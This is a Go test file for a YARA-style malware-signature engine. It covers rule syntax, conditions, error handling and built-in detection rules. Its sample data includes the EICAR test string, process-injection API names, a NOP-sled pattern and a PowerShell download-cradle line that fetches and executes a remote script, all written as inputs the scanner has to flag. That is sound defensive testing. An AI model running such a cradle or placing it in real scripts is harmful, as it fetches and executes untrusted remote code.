@@ -0,0 +1,280 @@
+package textlib
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// ruleNames scans data with source and returns the matching rule names
+func ruleNames(t *testing.T, source string, data []byte) []string {
+	t.Helper()
+	rs, err := CompileRules(source)
+	if err != nil {
+		t.Fatal(err)
+	}
+	matches, err := rs.Scan(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := []string{}
+	for _, m := range matches {
+		names = append(names, m.Rule)
+	}
+	return names
+}
+
+func TestCompileRulesConditions(t *testing.T) {
+	data := []byte("MZ\x90\x00header LoadLibraryA GetProcAddress loadlibrarya " +
+		"W\x00i\x00d\x00e\x00 token=abc123 token=def456 EVIL")
+	tests := []struct {
+		name      string
+		strings   string
+		condition string
+		want      bool
+	}{
+		{"text", `$a = "LoadLibraryA"`, "$a", true},
+		{"missing", `$a = "CreateRemoteThread"`, "$a", false},
+		{"not", `$a = "CreateRemoteThread"`, "not $a", true},
+		{"count", `$a = "loadlibrarya" nocase`, "#a == 2", true},
+		{"case-sensitive count", `$a = "loadlibrarya"`, "#a == 1", true},
+		{"wide", `$a = "Wide" wide`, "$a", true},
+		{"wide only", `$a = "Wide"`, "$a", false},
+		{"fullword", `$a = "EVI" fullword`, "$a", false},
+		{"fullword whole", `$a = "EVIL" fullword`, "$a", true},
+		{"hex at 0", `$mz = { 4D 5A ?? 00 }`, "$mz at 0", true},
+		{"hex at 1", `$mz = { 4D 5A }`, "$mz at 1", false},
+		{"hex nibble", `$a = { 4? 5A 9? }`, "$a", true},
+		{"hex jump", `$a = { 4C 6F 61 64 [8-12] 47 65 74 }`, "$a", true},
+		{"hex jump too short", `$a = { 4C 6F 61 64 [0-4] 47 65 74 }`, "$a", false},
+		{"hex alternatives", `$a = { ( 47 65 74 | 53 65 74 ) 50 72 6F 63 }`, "$a", true},
+		{"hex only alternatives", `$a = { ( 45 56 | 46 57 ) ( 49 4C | 4A 4D ) }`, "$a", true},
+		{"regex", `$re = /token=[a-z]+[0-9]+/`, "#re == 2 and !re[1] == 12", true},
+		{"regex nocase", `$re = /loadlibrary[a-z]/i`, "#re == 2", true},
+		{"in range", `$a = "EVIL"`, "$a in (0..10)", false},
+		{"offset", `$a = "token="`, "@a[2] - @a[1] == 13 and @a == @a[1]", true},
+		{"undefined offset", `$a = "token="`, "@a[3] > 0", false},
+		{"undefined is not true", `$a = "token="`, "not (@a[3] > 0)", true},
+		{"all of them", "$a = \"LoadLibraryA\"\n$b = \"GetProcAddress\"", "all of them", true},
+		{"2 of wildcard", "$api1 = \"LoadLibraryA\"\n$api2 = \"Missing\"\n$api3 = \"GetProcAddress\"", "2 of ($api*)", true},
+		{"3 of wildcard", "$api1 = \"LoadLibraryA\"\n$api2 = \"Missing\"\n$api3 = \"GetProcAddress\"", "3 of ($api*)", false},
+		{"none of", "$a = \"Missing\"\n$ = \"Absent\"", "none of them", true},
+		{"any anonymous", "$ = \"Missing\"\n$ = \"EVIL\"", "any of them", true},
+		{"filesize", `$a = "EVIL"`, "filesize < 1KB and filesize > 64", true},
+		{"uint16", `$a = "EVIL"`, "uint16(0) == 0x5A4D and uint16be(0) == 0x4D5A and uint8(2) == 0x90", true},
+		{"int8", `$a = "EVIL"`, "int8(2) == -112 and uint32(filesize) == 0", false},
+		{"arithmetic", `$a = "EVIL"`, "(filesize \\ 2) * 2 + filesize % 2 == filesize and 1 << 4 == 16 and (6 & 3) == 2", true},
+		{"division by zero", `$a = "EVIL"`, "filesize \\ 0 == 0", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			source := "rule test {\nstrings:\n" + tt.strings + "\ncondition:\n" + tt.condition + "\n}"
+			got := len(ruleNames(t, source, data)) == 1
+			if got != tt.want {
+				t.Errorf("condition %q: got %v, want %v", tt.condition, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestCompileRulesMetadata(t *testing.T) {
+	source := `
+/* Rules may reference earlier rules */
+private rule IsPE {
+    condition:
+        uint16(0) == 0x5A4D
+}
+
+rule Suspicious : injection windows {
+    meta:
+        author = "analyst"
+        severity = "high"
+        score = -5
+        active = true
+    strings:
+        $a = "CreateRemoteThread"
+        $b = "secret" private
+    condition:
+        IsPE and $a and $b // both strings
+}
+
+rule Never {
+    condition:
+        false
+}
+`
+	rs, err := CompileRules(source)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(rs.Rules(), []string{"IsPE", "Suspicious", "Never"}) {
+		t.Errorf("rules: got %v", rs.Rules())
+	}
+	matches, err := rs.Scan(strings.NewReader("MZ..secret..CreateRemoteThread"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []RuleMatch{{
+		Rule: "Suspicious",
+		Tags: []string{"injection", "windows"},
+		Meta: map[string]string{"author": "analyst", "severity": "high", "score": "-5", "active": "true"},
+		Strings: []StringMatch{
+			{Identifier: "$a", Offset: 12, Length: 18, Data: []byte("CreateRemoteThread")},
+		},
+	}}
+	if !reflect.DeepEqual(matches, want) {
+		t.Errorf("got  %+v\nwant %+v", matches, want)
+	}
+
+	// A failing global rule suppresses every match
+	global := "global rule Small { condition: filesize < 10 }\nrule Any { condition: true }"
+	if got := ruleNames(t, global, []byte("more than ten bytes")); len(got) != 0 {
+		t.Errorf("global: got %v", got)
+	}
+	if got := ruleNames(t, global, []byte("tiny")); !reflect.DeepEqual(got, []string{"Small", "Any"}) {
+		t.Errorf("global: got %v", got)
+	}
+}
+
+func TestCompileRulesErrors(t *testing.T) {
+	tests := []struct {
+		name, source, want string
+	}{
+		{"missing condition", "rule a { strings: $a = \"x\" }", `expected "condition"`},
+		{"duplicate rule", "rule a { condition: true }\nrule a { condition: true }", `line 2: duplicate rule "a"`},
+		{"duplicate string", "rule a { strings: $a = \"x\" $a = \"y\" condition: $a }", "duplicate string identifier $a"},
+		{"undefined string", "rule a { strings: $a = \"x\" condition: $b }", "undefined string identifier $b"},
+		{"undefined rule", "rule a { condition: b }", `undefined identifier "b"`},
+		{"forward reference", "rule a { condition: b }\nrule b { condition: true }", `undefined identifier "b"`},
+		{"no fixed bytes", "rule a { strings: $a = { ?? ?? } condition: $a }", "has no fixed bytes"},
+		{"leading jump", "rule a { strings: $a = { [2] 4D } condition: $a }", "cannot start or end with a jump"},
+		{"bad jump", "rule a { strings: $a = { 4D [4-2] 5A } condition: $a }", "bad jump [4-2]"},
+		{"bad hex", "rule a { strings: $a = { 4D 5G } condition: $a }", `bad byte "5G"`},
+		{"hex modifier", "rule a { strings: $a = { 4D 5A } nocase condition: $a }", "only accepts the private modifier"},
+		{"bad regex", "rule a { strings: $a = /(/ condition: $a }", "regex $a"},
+		{"xor", "rule a { strings: $a = \"x\" xor condition: $a }", "modifier xor is not supported"},
+		{"wildcard outside of", "rule a { strings: $a = \"x\" condition: $a* }", "only allowed in of expressions"},
+		{"unmatched wildcard", "rule a { strings: $a = \"x\" condition: any of ($b*) }", "no strings match $b*"},
+		{"them without strings", "rule a { condition: any of them }", "has no strings"},
+		{"unterminated string", "rule a { strings: $a = \"x condition: $a }", "unterminated string"},
+		{"unterminated comment", "/* rule", "unterminated comment"},
+	}
+	for _, tt := range tests {
+		_, err := CompileRules(tt.source)
+		if err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("%s: got %v, want error containing %q", tt.name, err, tt.want)
+		}
+	}
+}
+
+func TestLoadRules(t *testing.T) {
+	dir := t.TempDir()
+	files := map[string]string{
+		"a_base.yar":  "rule Base { strings: $a = \"alpha\" condition: $a }",
+		"b_uses.yara": "rule UsesBase { condition: Base and filesize > 3 }",
+		"notes.txt":   "not a rule file",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rs, err := LoadRules(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(rs.Rules(), []string{"Base", "UsesBase"}) {
+		t.Errorf("rules: got %v", rs.Rules())
+	}
+
+	bad := filepath.Join(dir, "bad.yar")
+	os.WriteFile(bad, []byte("rule {"), 0644)
+	if _, err := LoadRules(bad); err == nil || !strings.HasPrefix(err.Error(), bad+": line 1:") {
+		t.Errorf("Expected a file and line in the error, got %v", err)
+	}
+	if _, err := LoadRules(filepath.Join(dir, "missing.yar")); err == nil {
+		t.Error("Expected an error for a missing file")
+	}
+}
+
+func TestGetCommonVirusRules(t *testing.T) {
+	pe := make([]byte, 0x400)
+	copy(pe, "MZ")
+	pe[0x3c] = 0x80
+	copy(pe[0x80:], "PE\x00\x00")
+	copy(pe[0x178:], "UPX0")
+	copy(pe[0x1a0:], "UPX1")
+	injector := append(append([]byte{}, pe[:0x100]...),
+		"\x00OpenProcess\x00VirtualAllocEx\x00WriteProcessMemory\x00CreateRemoteThread\x00"...)
+
+	tests := []struct {
+		name string
+		data []byte
+		want []string
+	}{
+		{"EICAR", []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`), []string{"EICAR_Test_File"}},
+		{"shellcode", append(bytes.Repeat([]byte{0x90}, 12), 0x31, 0xc0, 0x50), []string{"Shellcode_NOP_Sled"}},
+		{"UPX", append(append([]byte{}, pe...), "UPX!"...), []string{"UPX_Packed_PE"}},
+		{"UPX names without a PE header", append([]byte("UPX0 UPX1 UPX!"), pe[0x100:]...), []string{}},
+		{"injector", injector, []string{"Process_Injection_APIs"}},
+		{"injector text", injector[0x100:], []string{}},
+		{"PowerShell", []byte("$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x/y.ps1')"), []string{"PowerShell_Download_Cradle"}},
+		{"clean", []byte("an ordinary document"), []string{}},
+	}
+	for _, tt := range tests {
+		matches, err := GetCommonVirusRules().Scan(bytes.NewReader(tt.data))
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := []string{}
+		for _, m := range matches {
+			got = append(got, m.Rule)
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("%s: got %v, want %v", tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestScanForVirusesWithRules(t *testing.T) {
+	rs, err := CompileRules(`
+rule Dropper {
+    meta:
+        description = "Drops a payload"
+        severity = "critical"
+        type = "trojan"
+        confidence = "0.8"
+    strings:
+        $a = "payload.exe"
+        $b = { DE AD BE EF }
+    condition:
+        any of them
+}
+rule Plain {
+    condition:
+        filesize > 0
+}`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "sample.bin")
+	os.WriteFile(path, []byte("xx\xde\xad\xbe\xef then payload.exe"), 0644)
+
+	threats, err := ScanForVirusesWithRules(path, rs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Threat{
+		{Name: "Dropper", Type: "trojan", Severity: "critical", Description: "Drops a payload", Position: 2, Confidence: 0.8},
+		{Name: "Plain", Type: "virus", Severity: "medium", Description: "Matched rule Plain", Position: 0, Confidence: 1},
+	}
+	if !reflect.DeepEqual(threats, want) {
+		t.Errorf("got  %+v\nwant %+v", threats, want)
+	}
+	if _, err := ScanForVirusesWithRules(filepath.Join(t.TempDir(), "missing"), rs); err == nil {
+		t.Error("Expected an error for a missing file")
+	}
+}